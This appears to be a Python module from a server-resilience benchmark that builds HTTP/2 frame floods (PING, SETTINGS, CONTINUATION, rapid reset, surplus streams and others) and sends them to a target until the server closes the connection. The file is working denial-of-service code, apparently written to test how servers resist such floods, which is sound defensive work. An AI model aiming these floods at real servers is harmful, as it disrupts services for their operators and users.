"""Floods: frames on one connection, as fast as they go, until the server closes it."""

import time
from collections.abc import Callable, Iterator, Mapping
from itertools import count
from typing import Final, TypeAlias

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from benchmarks.attack.connection import HEADERS, INITIAL_WINDOW_SIZE, Connection, opening, wire

BATCH: Final = 1 << 16  # bytes of a flood in one write

Flood: TypeAlias = Callable[[], Iterator[bytes]]


def _same(frame: Frame, *, before: bytes = b"") -> Flood:
    def flood() -> Iterator[bytes]:
        if before:
            yield before
        one = wire(frame)
        while True:
            yield one

    return flood


def _resets() -> Iterator[bytes]:
    for number in count():
        stream = 2 * number + 1
        yield opening(stream) + wire(RstStreamFrame(stream, 8))


def _surplus() -> Iterator[bytes]:
    for number in count():
        yield opening(2 * number + 1)


FLOODS: Final[Mapping[str, Flood]] = {
    "PING": _same(PingFrame(0, b"12345678")),
    "PRIORITY": _same(PriorityFrame(7, 0, 16)),
    "SETTINGS": _same(SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 70_000})),
    "WINDOW_UPDATE": _same(WindowUpdateFrame(0, 1)),
    "empty DATA": _same(DataFrame(1), before=opening(1)),
    "CONTINUATION": _same(
        ContinuationFrame(1), before=wire(HeadersFrame(1, HEADERS, flags=["END_STREAM"]))
    ),
    "unknown frames": _same(ExtensionFrame(0xFA, 0)),
    "rapid reset": _resets,
    "surplus streams": _surplus,
}


def flood(target: str, frames: Flood, seconds: float) -> float | None:
    """Send until the server has closed; after how many seconds that was."""
    connection, started = Connection(target), time.monotonic()
    connection.link.settimeout(seconds)
    batch: list[bytes] = []
    size = 0
    for frame in frames():
        batch.append(frame)
        size += len(frame)
        if size >= BATCH:
            if not connection.send(*batch) or time.monotonic() > started + seconds:
                break
            batch, size = [], 0
    closed = connection.closed_within(started + seconds - time.monotonic())
    connection.link.close()
    return time.monotonic() - started if closed else None
